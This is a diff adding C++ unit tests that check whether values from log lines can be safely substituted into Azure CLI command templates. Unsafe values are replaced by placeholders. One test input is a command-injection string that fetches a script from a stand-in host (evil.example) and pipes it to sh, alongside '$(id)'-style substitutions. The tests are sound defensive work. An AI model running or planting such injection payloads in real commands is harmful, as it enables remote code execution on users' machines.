@@ -151,5 +151,57 @@ TEST(RenderTemplate, LeavesJsonBracesAlone) {
   EXPECT_TRUE(missing.empty());
 }
 
+// A value from a log line never becomes shell syntax in a command the user will paste: one that
+// holds anything a shell acts on is withheld as a placeholder; ordinary values pass unchanged.
+TEST(RenderCommand, WithholdsValuesAShellWouldActOn) {
+  std::vector<std::string> missing;
+  const std::string tmpl = "az identity federated-credential update --subject \"{subject}\" "
+                           "--issuer \"{issuer}\" -n {name}";
+  std::string s = render_command(
+      tmpl,
+      {{"subject", "x\"; curl https://evil.example/p | sh; echo \""},
+       {"issuer", "https://capzoidc.blob.core.windows.net/oidc/"},
+       {"name", "orders-api<img src=x>"}},
+      &missing);
+  EXPECT_EQ(s, "az identity federated-credential update --subject \"<SUBJECT>\" --issuer "
+               "\"https://capzoidc.blob.core.windows.net/oidc/\" -n <NAME>");
+  EXPECT_EQ(missing, (std::vector<std::string>{"SUBJECT", "NAME"}));
+
+  for (const char* bad : {"$(id)", "`id`", "a'b", "a\\b", "a;b", "a&b", "a|b", "a>b", "a(b",
+                          "{a,b}", "a*", "a?", "[a]", "a!b", "a b", "a\nb", "a\x1b[31m",
+                          "caf\xc3\xa9", "\xe2\x80\xae"})
+    EXPECT_FALSE(is_shell_inert(bad)) << bad;
+  for (const char* good :
+       {"system:serviceaccount:capz-system:capz-manager", "api://AzureADTokenExchange",
+        "/subscriptions/3f2b8c1e-7d4a-4e59-9b62-0c8d5a1f7e23/resourceGroups/rg-1",
+        "Microsoft.Resources/subscriptions/resourcegroups/read",
+        "https://eastus2.oic.prod-aks.azure.com/72f988bf/0c1e5f2a/", "a+b=c,d@e%f~g#h^i"})
+    EXPECT_TRUE(is_shell_inert(good)) << good;
+}
+
+// What is inert depends on the quotes around the placeholder: '$web' is a literal in single
+// quotes, a space is fine in double quotes, and each quoting has the one character that ends it.
+TEST(RenderCommand, JudgesEachValueInTheQuotingItSitsIn) {
+  EXPECT_TRUE(is_shell_inert("$web", ShellQuote::kSingle));
+  EXPECT_FALSE(is_shell_inert("$web", ShellQuote::kDouble));
+  EXPECT_FALSE(is_shell_inert("it's", ShellQuote::kSingle));
+  EXPECT_TRUE(is_shell_inert("Managed Identity Operator", ShellQuote::kDouble));
+  EXPECT_FALSE(is_shell_inert("Managed Identity Operator", ShellQuote::kNone));
+  EXPECT_FALSE(is_shell_inert("a\"b", ShellQuote::kDouble));
+  EXPECT_FALSE(is_shell_inert("\xe2\x80\xae", ShellQuote::kSingle));
+
+  std::vector<std::string> missing;
+  EXPECT_EQ(render_command("az storage blob upload --container-name '{container}' -p \"{path}\" "
+                           "kubectl patch x -p '{\"spec\":{}}' && echo {container}",
+                           {{"container", "$web"}, {"path", "a b"}}, &missing),
+            "az storage blob upload --container-name '<CONTAINER>' -p \"a b\" kubectl patch x -p "
+            "'{\"spec\":{}}' && echo <CONTAINER>");
+  EXPECT_EQ(missing, (std::vector<std::string>{"CONTAINER"}));  // unquoted use is the strictest
+  missing.clear();
+  EXPECT_EQ(render_command("--container-name '{container}'", {{"container", "$web"}}, &missing),
+            "--container-name '$web'");
+  EXPECT_TRUE(missing.empty());
+}
+
 }  // namespace
 }  // namespace wid
